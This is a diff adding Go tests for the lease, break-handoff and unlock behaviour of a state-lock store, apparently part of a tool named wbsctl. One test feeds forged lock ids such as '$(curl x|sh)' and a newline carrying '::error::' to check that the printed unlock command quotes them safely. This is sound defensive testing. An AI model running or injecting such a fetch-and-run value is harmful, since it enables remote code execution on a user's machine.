@@ -130,11 +130,116 @@ func TestReleaseLeavesALockTakenSince(t *testing.T) {
 			if err := lease.Release(ctx); err != nil {
 				t.Fatal(err)
 			}
-			if err := s.Unlock(ctx, first.ID); !errors.Is(err, ErrNotLocked) {
+			if err := s.Unlock(ctx, first.ID, true); !errors.Is(err, ErrNotLocked) {
 				t.Fatalf("unlock of the first's id: %v, want ErrNotLocked", err)
 			}
 			if h, err := s.Holder(ctx); err != nil || h == nil || h.ID != second.ID {
 				t.Fatalf("after the first's release and unlock: %+v %v, want the second's lock", h, err)
+			}
+		})
+	}
+}
+
+// A renewal whose answer was lost landed all the same: the lease's
+// version is behind the lock's. The next renewal and the release find
+// the lock still naming the run and go on from its version, rather than
+// taking the lock for lost and leaving it behind.
+func TestLostRenewalAnswerKeepsTheLock(t *testing.T) {
+	ctx := context.Background()
+	for name, st := range stores(t) {
+		if st.advance == nil {
+			continue
+		}
+		t.Run(name, func(t *testing.T) {
+			s := st.open(t)
+			holder := NewHolder("apply -f a.csv", "", time.Now())
+			lease, err := s.Lock(ctx, holder, 0)
+			if err != nil {
+				t.Fatal(err)
+			}
+			before := lease.(*blobLease).version
+			st.advance(time.Second) // a renewal's note differs by its time
+			if err := lease.Renew(ctx); err != nil {
+				t.Fatal(err)
+			}
+			lease.(*blobLease).version = before // its answer lost
+			st.advance(time.Second)
+			if err := lease.Renew(ctx); err != nil {
+				t.Fatalf("a renewal after one whose answer was lost: %v", err)
+			}
+			lease.(*blobLease).version = before
+			if err := lease.Release(ctx); err != nil {
+				t.Fatal(err)
+			}
+			if h, err := s.Holder(ctx); err != nil || h != nil {
+				t.Fatalf("after the release: %+v %v, want the lock released", h, err)
+			}
+		})
+	}
+}
+
+// The command that releases a lock is pasted into a shell as printed: an
+// id from a forged lock is quoted, so that it is read back as it is,
+// never run or expanded; one wbsctl made is bare.
+func TestUnlockCommandIsSafeToPaste(t *testing.T) {
+	for id, want := range map[string]string{
+		"3f9c2a7d41e0b865": "wbsctl state unlock 3f9c2a7d41e0b865 --state 's3://b/k'",
+		"$(curl x|sh)":     `wbsctl state unlock '$(curl x|sh)' --state 's3://b/k'`,
+		"?":                `wbsctl state unlock '?' --state 's3://b/k'`,
+		"it's\n::error::x": `wbsctl state unlock 'it'\''s\n::error::x' --state 's3://b/k'`,
+	} {
+		if got := UnlockCommand(id, "'s3://b/k'"); got != want {
+			t.Errorf("the lock %q: %s, want %s", id, got, want)
+		}
+	}
+}
+
+// A break is handed on until a run verifies it: a run that broke a lock
+// and released it without writing the state after reading everything
+// (its plan failed) leaves the break in its release, and the next
+// holder's lease names it; once verified, the release hands none on. A
+// lock released by state unlock is handed on as a break as well: its run
+// may have written after it last wrote the state.
+func TestBreakIsHandedOnUntilVerified(t *testing.T) {
+	ctx := context.Background()
+	const stale = 2 * time.Second
+	for name, st := range stores(t) {
+		if st.advance == nil {
+			continue
+		}
+		t.Run(name, func(t *testing.T) {
+			s := st.open(t)
+			gone := NewHolder("apply -f gone.csv", "", time.Now())
+			if _, err := s.Lock(ctx, gone, 0); err != nil {
+				t.Fatal(err)
+			}
+			st.advance(stale + time.Second)
+			breaker, err := s.Lock(ctx, NewHolder("apply -f breaker.csv", "", time.Now()), stale)
+			if err != nil || breaker.Broken() == nil {
+				t.Fatalf("the break: %v", err)
+			}
+			if err := breaker.Release(ctx); err != nil {
+				t.Fatal(err)
+			}
+			next, err := s.Lock(ctx, NewHolder("apply -f next.csv", "", time.Now()), 0)
+			if err != nil || next.Broken() == nil || next.Broken().Holder.ID != gone.ID {
+				t.Fatalf("the run after an unverified break: %v, broken %+v; want the break of %s handed on", err, next.Broken(), gone.ID)
+			}
+			next.(*blobLease).markVerified()
+			if err := next.Release(ctx); err != nil {
+				t.Fatal(err)
+			}
+			last := NewHolder("apply -f last.csv", "", time.Now())
+			lease, err := s.Lock(ctx, last, 0)
+			if err != nil || lease.Broken() != nil {
+				t.Fatalf("the run after a verified break: %v, broken %+v; want none", err, lease.Broken())
+			}
+			if err := s.Unlock(ctx, last.ID, true); err != nil {
+				t.Fatal(err)
+			}
+			after, err := s.Lock(ctx, NewHolder("apply -f after.csv", "", time.Now()), 0)
+			if err != nil || after.Broken() == nil || after.Broken().Holder.ID != last.ID {
+				t.Fatalf("the run after an unlock: %v, broken %+v; want the unlocked lock of %s as a break", err, after.Broken(), last.ID)
 			}
 		})
 	}
